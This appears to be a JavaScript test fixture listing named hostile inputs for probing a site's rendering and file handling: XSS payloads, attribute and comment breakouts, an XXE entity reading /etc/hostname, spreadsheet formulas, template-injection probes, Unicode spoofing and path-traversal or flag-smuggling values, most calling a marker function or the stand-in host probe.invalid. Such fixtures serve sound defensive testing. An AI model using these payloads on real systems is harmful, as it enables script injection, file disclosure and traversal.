// What somebody might write into a field to break out of it. Each value, where it is run, calls `__probe()`, loads
// something from `probe.invalid`, shows 11111 (41 × 271), or leaves the site's folder for `escaped-probe`.

const RUN = "__probe()";

const markup = {
  script: `<script>${RUN}</script>`,
  "script-foreign": `<ScRiPt src=//probe.invalid/p.js></sCrIpT >`,
  "script-nul": `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  "ends-all": `</textarea></title></style></noscript></template></select></script><script>${RUN}</script>`,
  "ends-page": `</main></body></html><script>${RUN}</script>`,
  "image-error": `<img src="nowhere.png" onerror="${RUN}">`,
  "image-slashes": `<img/src/onerror=${RUN}//`,
  "svg-load": `<svg/onload=${RUN}>`,
  "svg-animate": `<svg><animate attributeName=x dur=1s onbegin="${RUN}"/></svg>`,
  "svg-link": `<svg><a xlink:href="javascript:${RUN}" href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
  "svg-use": `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
  "details-toggle": `<details open ontoggle=${RUN}><summary>more</summary></details>`,
  "body-load": `<body onload=${RUN} onpageshow=${RUN} class=x>`,
  "video-error": `<video><source onerror=${RUN} src=x.png></video><audio src=x.png onerror=${RUN}></audio>`,
  "input-focus": `<input autofocus onfocus=${RUN}><select autofocus onfocus=${RUN}></select>`,
  "frame-srcdoc": `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  "frame-address": `<iframe src="javascript:parent.${RUN}"></iframe>`,
  "object-embed": `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">`,
  "meta-refresh": `<meta http-equiv="refresh" content="0; url=https://probe.invalid/">`,
  "base-address": `<base href="//probe.invalid/">`,
  "link-style": `<link rel=stylesheet href=//probe.invalid/p.css>`,
  "style-element": `<style>@import "//probe.invalid/p.css"; body { background: url(//probe.invalid/p.png) }</style>`,
  "style-attribute": `<p style="position:fixed;inset:0;background:url(//probe.invalid/p.png)">cover</p>`,
  "form-action": `<form action="javascript:${RUN}"><button formaction="javascript:${RUN}">go</button></form>`,
  "open-tag": `<a href="https://probe.invalid/?`,
  "open-comment": `<!-- and nothing closes it`,
  "open-text": `<xmp><plaintext><textarea><title>`,
  "closes-comment": `--><img src=x.png onerror=${RUN}><!--`,
  "closes-comment-oddly": `<!-- --!><img src=x.png onerror=${RUN}>`,
  "mutates-noscript": `<noscript><i title="</noscript><img src=x.png onerror=${RUN}>"></i>`,
  "mutates-math": `<math><mi><table><mglyph><style><!--</style><a title="--&gt;&lt;img src=x.png onerror=${RUN}&gt;">`,
  "mutates-table": `<table><td><form><table></form><img src=x.png onerror=${RUN}></table>`,
  "template-element": `<template><script>${RUN}</script></template>`,
  "unknown-element": `<x-probe onclick=${RUN}>an element of nobody's</x-probe>`,
  "clobbers-names": `<form id=content name=body><input name=attributes></form><p id=content>twice</p>`,
  "only-signs": `R&D &copy &amp;amp; &lt;b&gt; 1 < 2 > 1 "double" 'single' \\`,
};

const attributes = {
  "closes-double": `" onmouseover="${RUN}" title="`,
  "closes-single": `' onmouseover='${RUN}' title='`,
  "closes-backtick": `\` onmouseover=${RUN} title=\``,
  "closes-bare": `x onmouseover=${RUN} y=z`,
  "closes-tag-double": `"><svg onload=${RUN}>`,
  "closes-tag-single": `'/><svg onload=${RUN}>`,
  "closes-by-line": `x"\n onfocus="${RUN}" autofocus tabindex="1`,
};

const embedded = {
  "json-script": `</script ><script>${RUN}</script>`,
  "json-comment": `<!--<script>${RUN}//-->`,
  "json-quote": `"}],"@type":"Probe","x":[{"y":"`,
  "json-backslash": `ends with \\`,
  "json-escapes": `\\u003c/script\\u003e \\" \\/ \u2028 \u2029`,
  "xml-section": `]]><x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script><![CDATA[`,
  "xml-entities": `&probe; &#0; &#xffff; <!DOCTYPE x [<!ENTITY probe SYSTEM "file:///etc/hostname">]>`,
  "xml-instruction": `<?xml-stylesheet href="//probe.invalid/p.xsl"?><?php echo 41*271 ?>`,
  "csv-formula": `=HYPERLINK("https://probe.invalid/","x")`,
  "csv-signs": `@SUM(41*271)\t+41*271`,
};

const addresses = {
  "address-script": `javascript:${RUN}`,
  "address-cased": `JaVaScRiPt:${RUN}`,
  "address-broken": `java\tscr\nipt:${RUN}`,
  "address-padded": `\u0001 \u00a0javascript:${RUN}`,
  "address-entity": `&#106;avascript&colon;${RUN}`,
  "address-encoded": `javascript%3A${RUN}`,
  "address-comment": `javascript://example.org/%0a${RUN}`,
  "address-data": `data:text/html,<script>parent.${RUN}</script>`,
  "address-vbscript": `vbscript:${RUN}`,
  "address-file": `file:///etc/hostname`,
  "address-relative": `//probe.invalid/x`,
  "address-backslash": `\\\\probe.invalid\\x`,
  "address-odd": `https://user:word@[::1/ %zz?"><b>#'`,
};

const markdown = {
  "md-link": `[link](javascript:${RUN}) [link](<java\tscript:${RUN}>)`,
  "md-link-entity": `[link](&#x6A;avascript&#58;${RUN})`,
  "md-link-data": `[link](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wcm9iZSgpPC9zY3JpcHQ+)`,
  "md-reference": `[link][x]\n\n[x]: javascript:${RUN} "a"`,
  "md-autolink": `<javascript:${RUN}> <vbscript:${RUN}>`,
  "md-image": `![x](javascript:${RUN}) ![" onerror="${RUN}](nowhere.png '" onerror="${RUN}')`,
  "md-image-foreign": `![far](https://probe.invalid/p.png)`,
  "md-title": `[x](https://example.org/ '" onmouseover="${RUN}')`,
  "md-fence": `\`\`\`x" onmouseover="${RUN}\n</code></pre><script>${RUN}</script>\n\`\`\``,
  "md-heading": `## Head {#x" onmouseover="${RUN} .y onclick=${RUN}}`,
  "md-footnote": `Note[^"><svg onload=${RUN}>].\n\n[^"><svg onload=${RUN}>]: <script>${RUN}</script>`,
  "md-table": `| <script>${RUN}</script> | b |\n|---|---|\n| <img src=x.png onerror=${RUN}> | "> |`,
  "md-wiki": `[[ok|<svg onload=${RUN}>]] [[ok|" onmouseover="${RUN}]] [<img src=x.png onerror=${RUN}>](record:ok)`,
  "md-deep": `${"> ".repeat(300)}A quotation in a quotation that nobody closes ${"[".repeat(300)}${"*".repeat(301)}`,
  "md-ids": `# content\n\n## content\n\n## Footnote ref\n\n## <b>content</b>`,
};

const templates = {
  "template-tera": `{{ 41 * 271 }} {% if true %}{% include "base.html" %} {{ __tera_context }} {# {{ get_env(name="HOME") }}`,
  "template-hugo": `{{< x "y" >}} {{% x %}} {{ mul 41 271 }} {{ .Site.Title }}`,
  "template-other": `<%= 41*271 %> \${41*271} #{41*271} {{{41*271}}} @(41*271)`,
  "template-open": `{{ {% {# {% raw %}`,
};

const letters = {
  controls: `a\u0000b\u0007c\u0008d\u000be\u001b[31mf\u007fg\u0085h\u009bi\ufffej\uffff`,
  "line-ends": `one\rtwo\r\nthree\u2028four\u000cfive`,
  bidi: `abc \u202egnp.exe\u202c \u2067open and never closed`,
  invisible: `ze\u200bro wi\u200dd\ufeffth\u00ad \u2060\u{e0041}`,
  stacked: `Z${"\u0301\u0310\u0327".repeat(40)}algo`,
  astral: `\u{1f469}\u200d\u{1f4bb} \u{1d518}\u{1d52b}\u{1d526} \ufdfd \u{12031}`,
  "long-word": "M".repeat(600),
  "long-address": `https://example.org/${"0123456789".repeat(50)}?${"1=2&".repeat(60)}`,
  spaces: ` \u3000 leads and trails \u00a0 `,
};

const paths = {
  "path-up": `../../../../../escaped-probe`,
  "path-up-windows": `..\\..\\..\\escaped-probe`,
  "path-up-encoded": `%2e%2e/%2e%2e%2fescaped-probe`,
  "path-absolute": `/escaped-probe`,
  "path-drive": `C:\\escaped-probe`,
  "path-home": `~/escaped-probe`,
  "path-secret": `../../../../secret.svg`,
  "path-dots": `..`,
  "path-dot": `.`,
  "path-device": `CON`,
  "path-device-ending": `aux.txt. `,
  "path-signs": `a/b?c=d#e&f;g:h*i|j"k<l>m%2fn`,
  "path-hidden": `.htaccess`,
  "path-index": `index.html`,
  "path-flag": `--force -rf`,
  "path-long": `${"A long name for a file, and longer than any file system takes. ".repeat(6)}The end`,
};

/** Every value by a name of its own. */
export const VALUES = Object.entries({
  ...markup,
  ...attributes,
  ...embedded,
  ...addresses,
  ...markdown,
  ...templates,
  ...letters,
  ...paths,
}).map(([name, text]) => ({ name, text }));
